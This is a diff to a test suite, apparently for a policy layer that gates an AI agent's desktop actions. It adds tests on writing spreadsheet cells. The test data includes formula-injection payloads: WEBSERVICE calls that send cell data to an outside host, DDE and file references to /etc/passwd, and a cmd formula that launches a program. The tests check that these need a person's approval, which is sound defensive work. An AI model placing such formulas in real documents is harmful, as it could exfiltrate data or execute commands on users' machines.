@@ -16,7 +16,10 @@ import { openBashGrammar } from '../script/index.js';
 
 let policy: CommandPolicy;
 beforeAll(async () => {
-  policy = openPolicy({ file: 'version: 1\napplications: [mousepad, WINWORD.EXE, xterm]\n' }, await openBashGrammar());
+  policy = openPolicy(
+    { file: 'version: 1\napplications: [mousepad, WINWORD.EXE, xterm, soffice.bin]\n' },
+    await openBashGrammar(),
+  );
 });
 
 const DEVICE = { deviceId: 'win-1', os: 'windows', tags: [] };
@@ -216,4 +219,31 @@ describe('files and pages', () => {
     expect(decided('launch_application', { name: 'evil' })).toBe('approve');
     expect(decided('launch_application', { name: 'mousepad', arguments: ['/etc/passwd'] })).toBe('approve');
   });
+});
+
+describe('tools of a spreadsheet', () => {
+  const sheet = placed('soffice.bin', { window: 'sum.xlsx' });
+  const write = (cell: Json) =>
+    judged('insert_excel_table', { table: [['a', 1], [cell]], sheet_name: 1, start_row: 1, start_col: 1 }, sheet);
+  it.each(['=SUM(A1:A9)', '=IF(A1>2,"x","y")', 'https://example.org is a text', 7, null])('write %j unasked', (cell) =>
+    expect(write(cell).decision).toBe('log'),
+  );
+  it.each([
+    '=WEBSERVICE("http://example.org/" & A1)',
+    '= hyperlink("mailto:a")',
+    '=DDE("soffice";"/etc/passwd";"A1")',
+    "='file:///etc/passwd'#$Sheet1.A1",
+    '=INDIRECT("x")',
+    "=cmd|' /C calc'!A0",
+    '+WEBSERVICE(A1)',
+  ])('ask a person like the network for %s', (cell) =>
+    expect(write(cell)).toMatchObject({ class: 'network', decision: 'approve', grantable: false }),
+  );
+  it.each<[string, Record<string, Json>, PolicyDecision]>([
+    ['where its device has a place for it', { file_name: 'sum.xlsx' }, 'log'],
+    ['in a directory that is named', { file_dir: '/srv', file_name: 'sum.xlsx' }, 'approve'],
+    ['by a path', { file_name: '../sum.xlsx' }, 'approve'],
+  ])('save %s', (_, args, decision) => expect(decided('save_as', args, sheet)).toBe(decision));
+  it('of clients that have no such places ask each time', () =>
+    expect(decided('save_as', { file_name: 'sum.docx' }, placed('WINWORD.EXE'))).toBe('approve'));
 });
